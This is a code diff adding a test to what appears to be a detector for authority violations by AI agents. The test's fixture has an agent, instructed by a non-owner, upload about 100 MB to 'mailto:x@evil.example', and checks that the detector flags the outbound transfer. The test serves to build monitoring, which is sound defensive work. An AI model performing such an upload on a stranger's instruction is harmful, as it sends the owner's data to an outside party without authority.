@@ -69,3 +69,13 @@ def test_unknown_owners_are_not_judged(ch: Client) -> None:
     f.tool("ash", "file.delete", 11, t, fleet__action__kind="delete", fleet__action__target="file:a")
     f.insert(ch)
     assert judge(ch, AuthorityViolations.from_policy(Policy()), 0, 60) == []
+
+
+def test_transfer_to_a_non_owner_fires(ch: Client) -> None:
+    f = fleet()
+    t = f.instruction("ash", STRANGER, 10)
+    f.tool("ash", "share.upload", 11, t, fleet__action__kind="send",
+           fleet__action__target="mailto:x@evil.example", fleet__resource__bytes=10**8)
+    f.insert(ch)
+    [(candidate, _)] = judge(ch, AuthorityViolations.from_policy(Policy()), 0, 60)
+    assert "1 outbound transfer" in candidate.explanation
